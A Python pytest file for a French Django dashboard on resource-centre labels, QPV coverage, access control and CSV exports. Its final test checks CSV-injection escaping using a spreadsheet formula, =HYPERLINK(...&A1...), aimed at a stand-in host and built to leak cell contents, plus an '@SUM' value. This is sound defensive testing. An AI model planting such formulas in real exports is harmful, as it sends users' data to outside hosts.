import csv
import datetime
import io

import pytest
import time_machine
from django.contrib.auth.models import User
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from pytest_django.asserts import assertContains

from centres.couverture import chiffres_cles, couverture_par_departement, couverture_par_region
from centres.enums import StatutLabel
from centres.labels import ajouter_mois, vigilance
from centres.models import Centre, Departement, Label
from tests.centres.factories import CentreFactory, DepartementFactory, LabelFactory, RegionFactory

AUJOURD_HUI = datetime.date(2026, 3, 15)
URL = reverse("pilotage:tableau_de_bord")


def lire_csv(reponse):
    texte = reponse.content.decode("utf-8")
    assert texte.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(texte.removeprefix("\ufeff")), delimiter=";"))


# --- rules ------------------------------------------------------------------------------


def test_ajouter_mois():
    assert ajouter_mois(datetime.date(2026, 8, 31), 6) == datetime.date(2027, 2, 28)
    assert ajouter_mois(datetime.date(2026, 3, 15), 6) == datetime.date(2026, 9, 15)


def test_label_expirant_dans_5_mois_signale_dans_7_mois_non():
    dans_5_mois = ajouter_mois(AUJOURD_HUI, 5)
    dans_7_mois = ajouter_mois(AUJOURD_HUI, 7)
    accorde = datetime.date(2022, 1, 1)
    assert vigilance(StatutLabel.LABELLISE, accorde, dans_5_mois, AUJOURD_HUI).motifs == (
        f"expire dans {(dans_5_mois - AUJOURD_HUI).days} jours",
    )
    assert vigilance(StatutLabel.LABELLISE, accorde, dans_7_mois, AUJOURD_HUI).motifs == ()


def test_motifs_de_vigilance():
    assert vigilance(None, None, None, AUJOURD_HUI).motifs == ("aucune décision de label enregistrée",)
    assert vigilance(StatutLabel.LABELLISE, None, None, AUJOURD_HUI).motifs == (
        "dates d'attribution et d'expiration inconnues",
    )
    expire = vigilance(StatutLabel.LABELLISE, datetime.date(2020, 1, 1), datetime.date(2026, 3, 5), AUJOURD_HUI)
    assert expire.motifs == ("expiré depuis 10 jours",)
    assert expire.niveau == 0
    assert vigilance(StatutLabel.RETIRE, datetime.date(2020, 1, 1), datetime.date(2030, 1, 1), AUJOURD_HUI).motifs == (
        "label retiré",
    )


@pytest.fixture
def petit_territoire(db):
    """Four départements and three centres, with the expected figures written by hand."""
    nord, sud = RegionFactory(code="32", nom="Nord"), RegionFactory(code="76", nom="Sud")
    a = DepartementFactory(code="59", nom="A", region=nord, nombre_qpv=40)
    b = DepartementFactory(code="62", nom="B", region=nord, nombre_qpv=30)
    c = DepartementFactory(code="31", nom="C", region=sud, nombre_qpv=20)
    DepartementFactory(code="34", nom="D", region=sud, nombre_qpv=10)
    LabelFactory(centre=CentreFactory(nom="Actif", departements=[a]), statut=StatutLabel.LABELLISE)
    LabelFactory(centre=CentreFactory(nom="Renouvellement", departements=[a, b]), statut=StatutLabel.EN_RENOUVELLEMENT)
    LabelFactory(centre=CentreFactory(nom="Suspendu", departements=[c]), statut=StatutLabel.SUSPENDU)


def test_couverture_calculee_a_la_main(base_vide, petit_territoire):
    chiffres = chiffres_cles(AUJOURD_HUI)
    # A (40) and B (30) are covered; C's only centre is suspended; D has none.
    assert (chiffres.qpv_couverts, chiffres.qpv_total, chiffres.departements_couverts) == (70, 100, 2)
    assert chiffres.taux_couverture_qpv == 70.0
    regions = {ligne.nom: ligne for ligne in couverture_par_region(couverture_par_departement(AUJOURD_HUI))}
    assert (regions["Nord"].qpv_couverts, regions["Nord"].qpv, regions["Nord"].taux_qpv) == (70, 70, 100.0)
    assert (regions["Sud"].qpv_couverts, regions["Sud"].qpv, regions["Sud"].departements_couverts) == (0, 30, 0)


def test_label_retire_ou_expire_ne_couvre_pas(base_vide, petit_territoire):
    Label.objects.filter(centre__nom="Actif").update(statut=StatutLabel.RETIRE)
    LabelFactory(
        centre=Centre.objects.get(nom="Renouvellement"),
        date_attribution=datetime.date(2020, 1, 1),
        date_expiration=datetime.date(2026, 3, 14),
    )
    assert chiffres_cles(AUJOURD_HUI).qpv_couverts == 0
    assert chiffres_cles(datetime.date(2026, 3, 14)).qpv_couverts == 70


# --- access -----------------------------------------------------------------------------


def test_visiteur_anonyme_renvoye_vers_la_connexion(client, db):
    for url in [URL, reverse("pilotage:export_labels"), reverse("pilotage:export_couverture")]:
        reponse = client.get(url)
        assert reponse.status_code == 302
        assert reponse["Location"].startswith(reverse("admin:login"))


def test_membre_d_une_equipe_refuse(client, db):
    client.force_login(User.objects.create_user("equipe", is_staff=True))
    for url in [URL, reverse("pilotage:export_labels"), reverse("pilotage:export_couverture")]:
        reponse = client.get(url)
        assert reponse.status_code == 403
        assertContains(reponse, "Accès refusé", status_code=403)


def test_superutilisateur_autorise(client, db):
    client.force_login(User.objects.create_superuser("admin", password="x"))
    assert client.get(URL).status_code == 200


# --- with the reference data -----------------------------------------------------------


@time_machine.travel(datetime.datetime(2026, 3, 15, 10, tzinfo=datetime.UTC), tick=False)
def test_tableau_de_bord(client, agent_anct, donnees_reference):
    oriv = Centre.objects.get(slug="oriv")
    LabelFactory(centre=oriv, date_attribution=datetime.date(2023, 1, 1), date_expiration=datetime.date(2026, 5, 1))
    client.force_login(agent_anct)
    reponse = client.get(URL)
    assert reponse.status_code == 200
    lignes = reponse.context["lignes"]
    assert len(lignes) == 19
    # The one expiring soonest comes first, then the labels with unknown dates.
    assert lignes[0].centre == oriv
    assert lignes[0].vigilance.motifs == ("expire dans 47 jours",)
    assertContains(reponse, "19 centres sur 19 à surveiller")
    chiffres = chiffres_cles()
    assertContains(reponse, f"{chiffres.qpv_couverts:,} QPV sur {chiffres.qpv_total:,}".replace(",", "\u00a0"))
    assertContains(reponse, "88&nbsp;%")
    assertContains(reponse, 'id="departement-987"')
    assertContains(reponse, "Polynésie française (987)</a> : 88 QPV")


def test_filtres_et_tri_des_labels(client, agent_anct, donnees_reference):
    client.force_login(agent_anct)
    Label.objects.filter(centre__slug="crpv-paca").update(statut=StatutLabel.SUSPENDU)
    lignes = client.get(URL, {"statut": "suspendu"}).context["lignes"]
    assert [ligne.centre.slug for ligne in lignes] == ["crpv-paca"]
    lignes = client.get(URL, {"region": "76", "tri": "-nom"}).context["lignes"]
    assert [ligne.centre.slug for ligne in lignes] == ["villes-et-territoires-occitanie", "ressources-territoires"]
    reponse = client.get(URL, {"statut": "inconnu", "region": "zz", "tri": "n'importe"})
    assert reponse.status_code == 200
    assertContains(reponse, "« inconnu » n&#x27;est pas un statut de label.")


def test_exports_se_relisent_et_concordent(client, agent_anct, donnees_reference):
    client.force_login(agent_anct)
    LabelFactory(
        centre=Centre.objects.get(slug="crpv-paca"),
        date_attribution=datetime.date(2015, 1, 1),
        date_expiration=datetime.date(2020, 1, 1),
    )
    labels = lire_csv(client.get(reverse("pilotage:export_labels")))
    assert len(labels) == 19
    assert {ligne["statut"] for ligne in labels} == {"labellisé"}
    # An expired label is inactive, by the same rule as the coverage: PACA's départements are uncovered.
    assert {ligne["sigle"] for ligne in labels if ligne["actif"] == "non"} == {"CRPV PACA"}
    banlieue = next(ligne for ligne in labels if ligne["centre"] == "Profession Banlieue")
    assert banlieue["regions"] == "Île-de-France"
    assert banlieue["vigilance"] == "dates d'attribution et d'expiration inconnues"

    reponse = client.get(reverse("pilotage:export_couverture"))
    assert reponse["Content-Type"] == "text/csv; charset=utf-8"
    couverture = lire_csv(reponse)
    assert len(couverture) == 103
    qpv_couverts = sum(int(ligne["qpv"]) for ligne in couverture if ligne["couvert"] == "oui")
    chiffres = chiffres_cles()
    assert qpv_couverts == chiffres.qpv_couverts
    assert sum(int(ligne["qpv"]) for ligne in couverture) == chiffres.qpv_total == 1584
    assert next(ligne for ligne in couverture if ligne["code_departement"] == "13")["couvert"] == "non"
    seine_saint_denis = next(ligne for ligne in couverture if ligne["code_departement"] == "93")
    assert seine_saint_denis["centres"] == "Profession Banlieue"

    sortie = io.StringIO()
    call_command("couverture", stdout=sortie)
    assert f"{chiffres.qpv_couverts} QPV sur {chiffres.qpv_total}" in sortie.getvalue()
    non_couverts = [ligne for ligne in couverture if ligne["couvert"] == "non"]
    assert f"Territoires avec des QPV non couverts ({len(non_couverts)})" in sortie.getvalue()
    assert sortie.getvalue().index("987\tPolynésie française") < sortie.getvalue().index("94\tVal-de-Marne")


def test_nombre_de_requetes_constant(client, agent_anct, donnees_reference):
    client.force_login(agent_anct)

    def compter():
        with CaptureQueriesContext(connection) as requetes:
            for url in [URL, reverse("pilotage:export_labels"), reverse("pilotage:export_couverture")]:
                assert client.get(url).status_code == 200
        return len(requetes)

    avant = compter()
    departements = list(Departement.objects.all()[:5])
    for numero in range(100):
        LabelFactory(centre=CentreFactory(nom=f"Centre {numero}", departements=departements))
    assert compter() == avant


def test_un_nom_qui_ressemble_a_une_formule_sort_inerte_de_l_export(client, agent_anct, donnees_reference):
    """CSV injection: a spreadsheet must show the text, not run it; numbers, negative ones too, stay numbers."""
    centre = Centre.objects.get(slug="oriv")
    centre.nom = '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")'
    centre.sigle = "@SUM(1+1)"
    centre.save()
    Label.objects.filter(centre=centre).update(date_expiration=timezone.localdate() - datetime.timedelta(days=3))
    client.force_login(agent_anct)
    lignes = {ligne["sigle"]: ligne for ligne in lire_csv(client.get(reverse("pilotage:export_labels")))}
    ligne = lignes["'@SUM(1+1)"]
    assert ligne["centre"] == '\'=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")'
    assert ligne["jours_restants"] == "-3"
    couverture = {
        ligne["code_departement"]: ligne for ligne in lire_csv(client.get(reverse("pilotage:export_couverture")))
    }
    assert couverture["67"]["centres"] == ligne["centre"]
    assert couverture["67"]["qpv"] == "24"
